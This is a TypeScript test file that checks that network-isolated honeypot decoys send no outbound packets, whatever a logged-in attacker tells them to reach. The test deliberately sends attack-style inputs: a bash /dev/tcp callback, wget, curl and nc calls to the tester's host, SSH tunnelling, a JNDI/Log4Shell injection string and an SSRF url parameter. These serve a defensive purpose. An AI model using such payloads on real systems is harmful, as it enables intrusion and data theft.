import { spawn, spawnSync } from 'node:child_process';
import { setTimeout as pause } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Cable, WITHOUT_NAMESPACES } from '../probing/cable.ts';
import { run } from './clients.ts';

// Decoys in a network namespace of their own. Whatever they are told to reach, no packet leaves that nobody asked for.

const PROGRAM = fileURLToPath(new URL('./decoys-apart.ts', import.meta.url));
let cable: Cable;
let decoys: ReturnType<typeof spawn>;
let sniffer: ReturnType<typeof spawn>;
let packets = '';

describe.skipIf(WITHOUT_NAMESPACES !== '')('decoys', () => {
  beforeAll(async () => {
    cable = Cable.open();
    const [command, parameters] = cable.onDevice(process.execPath, PROGRAM);
    decoys = spawn(command, parameters, { stdio: ['pipe', 'inherit', 'inherit'] });
    for (const port of [104, 2575, 22, 8080]) await cable.listens('tcp', port);
    // Begins of connections by the decoys, and any datagram of theirs; neighbour discovery is neither.
    const filter = `src host ${cable.deviceIp} and ((tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn) or udp or icmp)`;
    sniffer = spawn('tcpdump', ['-i', cable.askerInterface, '-nn', '-l', '--immediate-mode', filter], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const isReady = new Promise<void>((done) => sniffer.stderr?.once('data', () => done()));
    sniffer.stdout?.on('data', (bytes: Buffer) => {
      packets += bytes.toString();
    });
    await isReady;
  }, 60_000);
  afterAll(() => {
    sniffer?.kill();
    decoys?.kill();
    cable?.close();
  });

  it('reach nobody, whatever they are told', async () => {
    const host = cable.deviceIp;
    const me = cable.askerIp;
    const login = [
      '-p',
      'root',
      'ssh',
      '-o',
      'StrictHostKeyChecking=no',
      '-o',
      'UserKnownHostsFile=/dev/null',
      '-o',
      'LogLevel=ERROR',
    ];
    const script = [
      `wget http://${me}/a`,
      `curl http://${me}:81/b`,
      `ping -c 1 ${me}`,
      `nc ${me} 82`,
      `ssh root@${me}`,
      `bash -c 'echo > /dev/tcp/${me}/83'`,
      `nslookup a.example ${me}`,
      `tftp ${me}`,
    ].join('; ');
    const shell = await run('sshpass', [...login, `root@${host}`, script]);
    expect(shell.output).toMatch(/timed out/i);
    await run('sshpass', [...login, '-W', `${me}:84`, `root@${host}`]);
    await run('sshpass', [...login, '-N', '-o', 'ExitOnForwardFailure=yes', '-R', `8585:${me}:85`, `root@${host}`]);
    const moved = await run('movescu', [
      '-S',
      '-aem',
      'ELSEWHERE',
      '--port',
      '11113',
      host,
      '104',
      '-k',
      'QueryRetrieveLevel=STUDY',
      '-k',
      'StudyInstanceUID=1.2',
    ]);
    expect(moved.status).not.toBe(0);
    await run('curl', ['-s', '-A', `\${jndi:ldap://${me}:86/x}`, `http://${host}:8080/?url=http://${me}:87/`]);
    await pause(1500);
    expect(packets).toBe('');
    // The one who listens would have seen it.
    spawnSync(...cable.onDevice('timeout', '1', 'bash', '-c', `echo > /dev/tcp/${me}/9`));
    for (let tries = 0; packets === '' && tries < 100; tries += 1) await pause(50);
    expect(packets).toContain(`${me}.9`);
  }, 60_000);
});
